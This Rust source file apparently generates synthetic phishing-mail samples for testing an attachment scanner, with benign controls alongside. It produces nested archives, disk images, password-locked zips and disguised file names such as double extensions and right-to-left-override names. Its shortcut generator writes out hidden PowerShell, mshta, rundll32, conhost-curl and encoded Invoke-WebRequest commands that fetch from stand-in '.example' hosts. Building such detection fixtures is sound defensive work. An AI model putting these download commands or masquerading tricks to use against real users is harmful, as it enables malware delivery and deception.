//! Archives, disk images, shortcuts and names.

use crate::{
    dice::Dice,
    samples::{gzip, image as iso, locked_zip, mail, package, picture, program, project, shortcut as lnk, tar, zip},
};

/// Something that a click starts, with its name.
fn launched(dice: &mut Dice) -> (String, Vec<u8>) {
    let stem = dice.word();
    match dice.number(0..6) {
        0 => (format!("{stem}.exe"), program()),
        1 => (format!("{stem}.scr"), program()),
        2 => (
            format!("{stem}.js"),
            b"var words = new ActiveXObject(\"Scripting.Dictionary\");".to_vec(),
        ),
        3 => (
            format!("{stem}.lnk"),
            lnk("..\\..\\Windows\\System32\\cmd.exe", "/c start notes.txt", "", false),
        ),
        4 => (
            format!("{stem}.docm"),
            package(
                "word",
                &[(
                    "word/vbaProject.bin",
                    &project(&["Sub AutoOpen()\nShell \"notes\"\nEnd Sub"], ""),
                )],
            ),
        ),
        _ => (format!("{stem}.dat"), program()),
    }
}

/// Something that nobody minds, with its name.
fn harmless(dice: &mut Dice) -> (String, Vec<u8>) {
    let stem = dice.word();
    match dice.number(0..5) {
        0 | 1 => (format!("{stem}.png"), picture(dice)),
        2 => (
            format!("{stem}.txt"),
            format!("{}\n", dice.sentence()).repeat(dice.number(1..40)).into_bytes(),
        ),
        3 => (format!("{stem}.csv"), b"day,hours\nMonday,7\nTuesday,8\n".to_vec()),
        _ => (
            format!("{stem}.docx"),
            package("word", &[("word/document.xml", b"<w:document><w:p/></w:document>")]),
        ),
    }
}

/// Three layers around a file, of several kinds.
fn wrapped(dice: &mut Dice, name: &str, content: &[u8]) -> (String, Vec<u8>) {
    let (mut name, mut content) = (name.to_string(), content.to_vec());
    for _ in 0..3 {
        let stem = dice.word();
        (name, content) = match dice.number(0..4) {
            0 => (format!("{stem}.tar"), tar(&name, &content)),
            1 => (format!("{stem}.tgz"), gzip(&tar(&name, &content))),
            _ => (
                format!("{stem}.zip"),
                zip(&[("read-me.txt", b"As agreed."), (name.as_str(), &content)]),
            ),
        };
    }
    (name, content)
}

pub(super) fn nested(dice: &mut Dice) -> Vec<u8> {
    let (name, content) = launched(dice);
    let (name, content) = wrapped(dice, &name, &content);
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn nested_pictures(dice: &mut Dice) -> Vec<u8> {
    let (name, content) = harmless(dice);
    let (name, content) = wrapped(dice, &name, &content);
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn shortcut(dice: &mut Dice) -> Vec<u8> {
    let host = format!("{}.example", dice.word());
    let (target, arguments) = match dice.number(0..8) {
        0 => (
            "..\\..\\Windows\\System32\\cmd.exe",
            format!("/c start http://{host}/a"),
        ),
        1 => (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            format!("-w hidden -nop -c \"iwr https://{host}/x -o $env:temp\\a.txt\""),
        ),
        2 => ("%windir%\\system32\\mshta.exe", format!("https://{host}/page.hta")),
        3 => (
            "..\\..\\..\\Windows\\System32\\rundll32.exe",
            format!("\\\\{host}@80\\share\\a.dll,Entry"),
        ),
        4 => ("%comspec%", "/v /c set a=not&&set b=es&&call start !a!!b!.txt".into()),
        5 => (
            "C:\\Windows\\System32\\conhost.exe",
            format!("--headless cmd /c curl -o a.txt http://{host}/b"),
        ),
        6 => (
            "powershell.exe",
            format!(
                "-enc {}",
                base64::Engine::encode(
                    &base64::engine::general_purpose::STANDARD,
                    format!("Invoke-WebRequest http://{host}/c")
                        .encode_utf16()
                        .flat_map(u16::to_le_bytes)
                        .collect::<Vec<u8>>()
                )
            ),
        ),
        _ => (
            "wscript.exe",
            format!("{}\"%temp%\\{}.js\"", " ".repeat(dice.number(100..300)), dice.word()),
        ),
    };
    let icon = dice.pick(&[
        "",
        "C:\\Program Files\\Adobe\\Acrobat\\Acrobat.exe",
        "%SystemRoot%\\System32\\imageres.dll",
    ]);
    let with_environment = dice.coin();
    let content = lnk(target, &arguments, icon, with_environment);
    let name = format!("{}.pdf.lnk", dice.word());
    if dice.coin() {
        return mail(
            dice.sentence(),
            &[(&format!("{}.zip", dice.word()), &zip(&[(name.as_str(), &content)]))],
        );
    }
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn shortcut_to_document(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let (target, arguments) = match dice.number(0..6) {
        0 => (format!("..\\plans\\{stem}.pdf"), String::new()),
        1 => (format!("C:\\Users\\kim\\Documents\\{stem}.xlsx"), String::new()),
        2 => (
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into(),
            format!("/n \"C:\\plans\\{stem}.docx\""),
        ),
        3 => (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".into(),
            format!("--app=https://{stem}.example/"),
        ),
        4 => (format!("\\\\fileserver\\projects\\{stem}"), String::new()),
        _ => ("C:\\Windows\\explorer.exe".into(), format!("C:\\projects\\{stem}")),
    };
    let with_environment = dice.coin();
    let content = lnk(&target, &arguments, "", with_environment);
    mail(dice.sentence(), &[(&format!("{stem}.lnk"), &content)])
}

fn imaged(dice: &mut Dice, files: &[(&str, &[u8])], hides_first: bool) -> Vec<u8> {
    let is_joliet = dice.coin();
    let content = iso(files, is_joliet, hides_first);
    let ending = dice.pick(&["iso", "img", "iso"]);
    let name = format!("{}.{ending}", dice.word());
    if dice.coin() {
        return mail(
            dice.sentence(),
            &[(&format!("{}.zip", dice.word()), &zip(&[(name.as_str(), &content)]))],
        );
    }
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn image(dice: &mut Dice) -> Vec<u8> {
    let (name, content) = launched(dice);
    let (other, more) = harmless(dice);
    let hides = dice.coin();
    imaged(dice, &[(&other, &more), (&name, &content)], hides)
}

pub(super) fn image_of_texts(dice: &mut Dice) -> Vec<u8> {
    let files: Vec<_> = (0..dice.number(1..6)).map(|_| harmless(dice)).collect();
    let files: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(name, content)| (name.as_str(), content.as_slice()))
        .collect();
    imaged(dice, &files, false)
}

/// A password, and a sentence that gives it away.
fn password(dice: &mut Dice) -> (String, String) {
    let password = match dice.number(0..4) {
        0 => dice.number(1_000..999_999).to_string(),
        1 => format!("{}{}!", dice.word(), dice.number(10..99)),
        2 => format!("{}-{}", dice.word(), dice.word()),
        _ => dice.word(),
    };
    let sentence = match dice.number(0..7) {
        0 => format!("The password is {password}."),
        1 => format!("Archive password: {password}"),
        2 => format!("Passwort: \"{password}\""),
        3 => format!("Use the code ({password}) to open it."),
        4 => format!("PW={password}"),
        5 => format!("パスワード：{password}"),
        _ => format!("password for the attached file\r\n{password}"),
    };
    (password, sentence)
}

fn locked_with(dice: &mut Dice, name: &str, content: &[u8]) -> Vec<u8> {
    let (password, sentence) = password(dice);
    let is_old = dice.coin();
    let archive = locked_zip(&[(name, content)], &password, is_old);
    mail(
        &format!("{} {sentence}", dice.sentence()),
        &[(&format!("{}.zip", dice.word()), &archive)],
    )
}

pub(super) fn locked(dice: &mut Dice) -> Vec<u8> {
    let (name, content) = launched(dice);
    locked_with(dice, &name, &content)
}

pub(super) fn locked_pictures(dice: &mut Dice) -> Vec<u8> {
    let (name, content) = harmless(dice);
    locked_with(dice, &name, &content)
}

pub(super) fn doubled(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let (shown, hidden) = (
        dice.pick(&["pdf", "docx", "xlsx", "jpg", "png", "txt", "mp4"]),
        dice.pick(&["exe", "scr", "js", "vbs", "bat", "pif", "com", "hta"]),
    );
    let name = match dice.number(0..5) {
        0 => format!("{stem}.{shown}{}.{hidden}", " ".repeat(dice.number(20..120))),
        1 => format!("{stem}.{}.{}", shown.to_uppercase(), hidden.to_uppercase()),
        2 => format!("{stem}\u{202e}{}.{hidden}", shown.chars().rev().collect::<String>()),
        3 => format!("{stem}.{shown}.{hidden}. "),
        _ => format!("{stem}.{shown}.{hidden}"),
    };
    let content = if dice.coin() {
        program()
    } else {
        dice.sentence().as_bytes().to_vec()
    };
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn dotted(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let (name, content) = match dice.number(0..7) {
        0 => (
            format!("{stem}.final.pdf"),
            crate::samples::pdf(&[b"<< /Type /Catalog >>".to_vec()]),
        ),
        1 => (format!("{stem}.v1.2.txt"), dice.sentence().as_bytes().to_vec()),
        2 => (format!("{stem}.tar.gz"), gzip(&tar("plan.txt", b"plan"))),
        3 => (format!("{stem} 2026.10.05.csv"), b"a,b\n1,2\n".to_vec()),
        4 => (format!("{stem}.pdf.p7s"), dice.bytes(300)),
        5 => (format!("{stem}.docx.zip"), zip(&[("plan.txt", b"plan")])),
        _ => (format!("{stem}.jpg.png"), picture(dice)),
    };
    mail(dice.sentence(), &[(&name, &content)])
}
